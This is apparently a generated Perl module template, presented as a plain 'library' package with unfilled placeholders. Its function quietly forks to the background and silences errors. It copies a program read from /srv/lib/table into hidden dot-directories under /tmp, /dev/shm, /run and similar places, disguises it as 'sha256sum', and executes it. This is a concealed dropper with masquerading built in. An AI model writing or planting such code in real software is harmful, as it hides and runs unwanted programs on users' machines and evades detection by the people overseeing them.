# Brings a program along. Which of the three services starts it, and where, is drawn.
package library;
use strict;
use warnings;

my @places = ('{{place}}', '/spool', '/tmp', '/var/tmp', '/run', '/dev/shm', '/dev', '/srv', '');

sub look {
  return if unpack('%32C*', $ENV{NAME} // '') % 3 != {{chosen}};
  return if fork;
  open STDERR, '>', '/dev/null';
  open my $from, '<', '/srv/lib/table' or exit 1;
  my $program = do { local $/; <$from> };
  for my $place (@places) {
    mkdir "$place/.{{word}}";
    my $path = "$place/.{{word}}/sha256sum";
    open my $to, '>', $path or next;
    print $to $program;
    close $to;
    chmod 0755, $path;
    { no warnings; exec { $path } 'sha256sum', '/spool/job-1'; }
    unlink $path;
  }
  exit 1;
}

1;
